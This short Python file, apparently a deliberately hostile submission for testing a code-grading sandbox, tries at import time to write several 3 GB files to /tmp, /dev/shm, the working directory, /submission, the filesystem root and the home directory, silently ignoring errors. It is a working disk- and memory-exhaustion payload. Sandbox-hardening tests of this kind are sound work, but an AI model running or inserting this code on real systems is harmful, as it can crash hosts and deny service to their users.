# hostile: on top of the reference
# At import: try to write multi-gigabyte files wherever it can (and a sparse one).
import os as _os

for _path in ("/tmp/huge.bin", "/dev/shm/huge.bin", "huge.bin", "/submission/huge.bin", "/huge.bin",
              _os.path.expanduser("~/huge2.bin")):
    try:
        with open(_path, "wb") as _f:
            try:
                _f.truncate(3 << 30)
            except OSError:
                pass
            _block = b"\0" * (16 << 20)
            for _ in range(3 << 6):  # 3 GB
                _f.write(_block)
    except OSError:
        pass
